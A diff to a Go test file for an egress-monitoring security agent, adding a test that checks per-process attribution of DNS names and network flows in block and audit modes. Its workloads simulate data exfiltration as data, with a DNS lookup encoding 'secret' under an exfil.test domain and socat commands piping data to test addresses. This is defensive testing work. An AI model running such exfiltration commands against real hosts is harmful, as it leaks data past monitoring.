@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 )
@@ -42,7 +43,6 @@ func TestRunNamesShortLivedSenders(t *testing.T) {
 		t.Skip("needs kernel BTF for the kernel-side capture")
 	}
 	w := newWorld(t)
-	w.cgroup2 = true
 	type sender struct {
 		ip, proto string
 		port      int
@@ -110,7 +110,6 @@ func TestRunNamesShortLivedSenders(t *testing.T) {
 // "procfs" and why.
 func TestRunSaysAttributionFallback(t *testing.T) {
 	w := newWorld(t)
-	w.cgroup2 = true
 	t.Setenv("HARDEN_RUNNER_NO_EBPF", "1")
 	w.run(t, []string{"--egress-policy", "audit"}, workload{{"udp", "echo x | socat -u - UDP4:198.18.1.47:9999"}})
 	b, err := os.ReadFile(filepath.Join(w.tmp, "report-TestRunSaysAttributionFallback", "report.json"))
@@ -123,5 +122,101 @@ func TestRunSaysAttributionFallback(t *testing.T) {
 	}
 	if rep.Agent.Attribution != "procfs" || !strings.Contains(rep.Agent.AttributionReason, "HARDEN_RUNNER_NO_EBPF") {
 		t.Errorf("agent attribution %q (%q), want procfs because of HARDEN_RUNNER_NO_EBPF", rep.Agent.Attribution, rep.Agent.AttributionReason)
+	}
+}
+
+// TestRunDomainsPerProcess: a flow is named only by what its own process
+// or an ancestor resolved. Process A looks up an exfiltration name;
+// process B, unrelated, connects to the address directly: B's flow carries
+// no name and the suggested policy offers the address, never A's name. A
+// child of a process that resolved a name connects to it: its flow has the
+// parent's name. In block and audit mode.
+func TestRunDomainsPerProcess(t *testing.T) {
+	w := newWorld(t)
+	wl := workload{
+		{"a-resolves", "getent hosts c2VjcmV0.exfil.test"},
+		{"b-direct", "echo x | socat -u - TCP4:198.18.1.17:22"},
+		{"child-of-resolver", `python3 -c "import socket,subprocess; ip=socket.gethostbyname('audit-only.test'); subprocess.run(['socat','-u','-','TCP4:'+ip+':22'], input=b'x', check=True)"`},
+	}
+	type rowT struct {
+		Domain  string `json:"domain"`
+		IP      string `json:"ip"`
+		Port    int    `json:"port"`
+		Verdict string `json:"verdict"`
+		Process struct {
+			PID     int    `json:"pid"`
+			Exe     string `json:"exe"`
+			Parents []struct {
+				Exe string `json:"exe"`
+			} `json:"parents"`
+		} `json:"process"`
+	}
+	type epT struct {
+		Endpoint string `json:"endpoint"`
+		Reason   string `json:"reason"`
+	}
+	var rep struct {
+		Egress []rowT `json:"egress"`
+		DNS    []struct {
+			Name    string `json:"name"`
+			Verdict string `json:"verdict"`
+			Process struct {
+				PID int    `json:"pid"`
+				Exe string `json:"exe"`
+			} `json:"process"`
+		} `json:"dns"`
+		Suggested struct {
+			Entries []epT `json:"entries"`
+			Review  []epT `json:"review"`
+		} `json:"suggested_policy"`
+	}
+	for _, mode := range []string{"block", "audit"} {
+		t.Run(mode, func(t *testing.T) {
+			// In block mode the child's connection goes to the name-checking
+			// relay (allowed by name), which refuses it (no TLS or HTTP name):
+			// its verdict is not what this test is about, its name is.
+			w.run(t, []string{"--egress-policy", mode, "--allowed-endpoints", "allowed.test:443 audit-only.test:22", "--upstream", "198.18.0.2"}, wl)
+			b, err := os.ReadFile(filepath.Join(w.tmp, "report-"+mode, "report.json"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := json.Unmarshal(b, &rep); err != nil {
+				t.Fatal(err)
+			}
+			for _, d := range rep.DNS {
+				if d.Name == "c2VjcmV0.exfil.test" && (d.Process.PID == 0 || filepath.Base(d.Process.Exe) != "getent") {
+					t.Errorf("query for %s by %+v, want getent's", d.Name, d.Process)
+				}
+			}
+			var direct, child *rowT
+			for i, e := range rep.Egress {
+				switch {
+				case e.IP == "198.18.1.17" && e.Port == 22:
+					direct = &rep.Egress[i]
+				case e.IP == "198.18.1.18" && e.Port == 22:
+					child = &rep.Egress[i]
+				}
+			}
+			if direct == nil || child == nil {
+				t.Fatalf("no egress rows for 198.18.1.17:22 (%v) or 198.18.1.18:22 (%v): %+v", direct != nil, child != nil, rep.Egress)
+			}
+			if direct.Domain != "" || filepath.Base(direct.Process.Exe) != "socat" {
+				t.Errorf("direct-IP flow of %s named %q, want socat's flow with no name", direct.Process.Exe, direct.Domain)
+			}
+			if child.Domain != "audit-only.test" || filepath.Base(child.Process.Exe) != "socat" ||
+				len(child.Process.Parents) == 0 || !strings.HasPrefix(filepath.Base(child.Process.Parents[0].Exe), "python3") {
+				t.Errorf("child's flow %+v, want socat under python3 named audit-only.test", *child)
+			}
+			var eps []string
+			for _, e := range append(rep.Suggested.Entries, rep.Suggested.Review...) {
+				eps = append(eps, e.Endpoint)
+				if e.Endpoint == "198.18.1.17:22" && mode == "audit" && e.Reason == "" {
+					t.Errorf("suggested %s without saying why it is an address", e.Endpoint)
+				}
+			}
+			if slices.Contains(eps, "c2VjcmV0.exfil.test:22") || !slices.Contains(eps, "198.18.1.17:22") || !slices.Contains(eps, "audit-only.test:22") {
+				t.Errorf("suggested %q, want 198.18.1.17:22 and audit-only.test:22, never c2VjcmV0.exfil.test:22", eps)
+			}
+		})
 	}
 }
